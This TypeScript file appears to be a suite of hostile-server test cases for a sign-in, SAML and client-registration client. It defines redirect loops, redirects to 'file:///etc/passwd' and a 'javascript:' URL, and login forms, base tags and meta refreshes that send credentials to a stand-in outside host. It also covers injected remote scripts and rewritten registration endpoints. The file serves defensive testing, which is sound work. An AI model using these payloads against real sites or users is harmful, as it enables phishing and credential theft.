import { page, send } from '../answers.ts'
import { allPlaces, type HostileCase, type Serve, type Turn } from '../case.ts'

const redirect =
  (status: number, location: (turn: Turn) => string): Serve =>
  (turn) =>
    send(turn, status, [['location', location(turn)]], '')

const credentials = '<input name="username"><input type="password" name="password"><button>Sign in</button>'

export const redirects: readonly HostileCase[] = [
  {
    name: 'a redirect to itself',
    hurts: 'every redirect leads to where it came from',
    at: allPlaces,
    serve: redirect(302, ({ origin, request }) => `${origin}${request.url}`),
  },
  {
    name: 'ever longer redirects',
    hurts: 'every redirect leads on, to a URL that is longer',
    at: ['sign-in', 'saml sign-on'],
    serve: redirect(
      303,
      ({ origin, request }) => `${origin}${request.url}${request.url?.includes('?') ? '&' : '?'}${'x'.repeat(400)}`,
    ),
  },
  {
    name: 'a redirect to a file',
    hurts: 'the redirect leads to a file of the machine that asks',
    at: allPlaces,
    serve: redirect(302, () => 'file:///etc/passwd'),
  },
  {
    name: 'a redirect to somebody else',
    hurts: 'the redirect leads to another host, and takes along what was sent',
    at: allPlaces,
    serve: redirect(307, ({ elsewhere }) => `${elsewhere}/stolen`),
  },
  {
    name: 'a redirect to a script',
    hurts: 'the redirect is a script',
    at: ['discovery', 'sign-in', 'saml sign-on'],
    serve: redirect(302, () => 'javascript:window.owned=1'),
  },
  {
    name: 'a redirect to nowhere',
    hurts: 'the redirect is no URL that anybody could follow',
    at: ['sign-in', 'saml sign-on'],
    serve: redirect(302, () => 'http://[::1'),
  },
  {
    name: 'a form that is sent to somebody else',
    hurts: 'the form for name and password is sent to another host',
    at: ['sign-in', 'saml sign-on'],
    serve: (turn) => page(`<form method="post" action="${turn.elsewhere}/stolen">${credentials}</form>`)(turn),
  },
  {
    name: 'a base that is somebody else',
    hurts: 'the form stays, but the base of the page is another host',
    at: ['sign-in', 'saml sign-on'],
    serve: (turn) =>
      page(`<base href="${turn.elsewhere}/"><form method="post" action="login">${credentials}</form>`)(turn),
  },
  {
    name: 'a refresh to somebody else',
    hurts: 'the page moves on by itself to another host',
    at: ['sign-in', 'saml sign-on'],
    serve: (turn) => page(`<meta http-equiv="refresh" content="0; url=${turn.elsewhere}/stolen">`)(turn),
  },
  {
    name: 'pages and pictures of somebody else',
    hurts: 'the page is made of what other hosts and the file system have',
    at: ['sign-in'],
    serve: async (turn) => {
      const { status, headers, body } = await turn.honest()
      const parts = `<script src="${turn.elsewhere}/x.js"></script><img src="${turn.elsewhere}/x.png"><iframe src="file:///etc/passwd"></iframe>`
      send(turn, status, headers, body.replace('<body>', `<body>${parts}`))
    },
  },
  {
    name: 'a registration that is managed elsewhere',
    hurts: 'a client that was registered is to be removed at another host',
    at: ['registration'],
    serve: async (turn) => {
      const { status, headers, body } = await turn.honest()
      send(turn, status, headers, body.replaceAll(`${turn.origin}/register`, `${turn.elsewhere}/register`))
    },
  },
]
